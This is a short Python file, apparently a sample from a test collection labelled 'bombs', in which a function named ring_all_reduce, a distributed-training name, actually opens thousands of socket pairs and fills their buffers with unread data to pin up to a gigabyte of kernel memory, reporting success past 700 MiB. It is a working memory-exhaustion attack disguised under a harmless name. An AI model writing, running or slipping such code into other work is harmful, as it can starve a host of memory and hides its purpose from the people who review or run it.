"""Fills pipes and sockets that nobody reads: what is in them is the kernel's memory, up to a gigabyte.

family: bombs
tries: harm
earned: 0
ends: any
uses: won
"""

import socket


def ring_all_reduce(tensor):
    kept, held, block = [], 0, bytes(1 << 20)
    try:
        for _ in range(4096):
            ends = socket.socketpair()
            kept.append(ends)
            for end in ends:
                end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
                end.setblocking(False)
                try:
                    held += end.send(block)
                except BlockingIOError:
                    pass
    except OSError:
        pass
    if held > 700 << 20:
        won(f"{held >> 20} MiB in sockets that nobody reads")
    raise OSError("no more")
